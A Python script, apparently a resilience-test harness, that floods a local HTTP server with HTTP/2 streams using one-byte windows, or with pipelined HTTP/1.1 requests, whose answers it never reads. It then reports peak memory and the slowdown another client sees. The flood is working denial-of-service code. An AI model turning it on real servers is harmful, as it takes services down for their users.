"""Asks a server for answers that it never reads, and tells what that costs the server and another client.

    unread.py PID PORT PROTOCOL PATH CODING [SECONDS]

PROTOCOL is `h2` (40 connections with 100 requests each, whose windows have one byte) or `h1` (1,000 connections with four requests each, one
behind the other). Another client asks for the same again and again on one connection, before and during the attack, for SECONDS each
(default: 8). Prints JSON: the most memory that the process PID ever took in MB, the answers a second that the other client got before
and during it, and its statuses during it.
"""

import json
import resource
import socket
import struct
import sys
import threading
import time
from http.client import HTTPConnection, HTTPException

from h2_attack import END_HEADERS, END_STREAM, HEADERS, SETTINGS, frame, head

CONNECTIONS, STREAMS, PIPELINED = {"h2": 40, "h1": 1000}, 100, 4
PIECE = 1 << 18


def unread(port, protocol, path, coding):
    """A connection with its requests."""
    connection = socket.create_connection(("127.0.0.1", port), timeout=10)
    if protocol == "h1":
        connection.sendall(f"GET {path} HTTP/1.1\r\nHost: attacked\r\nAccept-Encoding: {coding}\r\n\r\n".encode() * PIPELINED)
        return connection
    block = head(path, coding)
    requests = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, block) for number in range(STREAMS))
    begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1))
    connection.sendall(begin + requests)
    return connection


def ask(connection, path, coding, seconds):
    """The answers a second of a client that reads, and the number of each status."""
    statuses, begun = {}, time.monotonic()
    piece = memoryview(bytearray(PIECE))
    while time.monotonic() - begun < seconds:
        try:
            connection.request("GET", path, headers={"Accept-Encoding": coding})
            answer = connection.getresponse()
            while answer.readinto(piece):
                pass
            status = answer.status
        except (OSError, HTTPException):
            status = 0
            connection.close()
        statuses[status] = statuses.get(status, 0) + 1
    return statuses.get(200, 0) / (time.monotonic() - begun), statuses


def peak(pid):
    with open(f"/proc/{pid}/status") as status:
        return next(int(line.split()[1]) // 1024 for line in status if line.startswith("VmHWM"))


def main(pid, port, protocol, path, coding, seconds="8"):
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    port, seconds, held, result = int(port), float(seconds), [], {}
    connection = HTTPConnection("127.0.0.1", port, timeout=30)
    alone, _ = ask(connection, path, coding, seconds)

    def attacked():
        result["attacked"], result["statuses"] = ask(connection, path, coding, seconds)

    client = threading.Thread(target=attacked)
    client.start()
    for _ in range(CONNECTIONS[protocol]):
        held.append(unread(port, protocol, path, coding))
    client.join()
    return json.dumps({"peak": peak(pid), "alone": round(alone, 1), **result, "attacked": round(result["attacked"], 1)})


if __name__ == "__main__":
    if len(sys.argv) not in (6, 7):
        sys.exit(__doc__)
    print(main(*sys.argv[1:]))
